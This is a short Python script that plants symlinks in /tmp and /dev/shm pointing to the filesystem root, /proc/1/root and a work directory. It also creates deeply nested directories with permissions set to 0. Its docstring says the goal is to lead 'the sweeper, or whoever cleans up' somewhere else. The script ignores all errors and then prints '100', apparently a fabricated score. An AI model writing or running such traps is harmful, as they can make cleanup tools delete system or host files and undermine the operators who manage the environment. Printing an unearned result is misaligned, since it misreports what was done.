"""Leaves links in /tmp that lead the sweeper, or whoever cleans up, somewhere else."""

import os

for target, link in (("/work", "work"), ("/", "root"), ("/proc/1/root", "process"), ("/work/.interleave", "ours")):
    for folder in ("/tmp", "/dev/shm"):
        try:
            os.symlink(target, f"{folder}/{link}")
            os.makedirs(f"{folder}/{link}-deep/" + "/".join("d" * 20))
            os.chmod(f"{folder}/{link}-deep", 0)
        except OSError:
            pass
print(100)
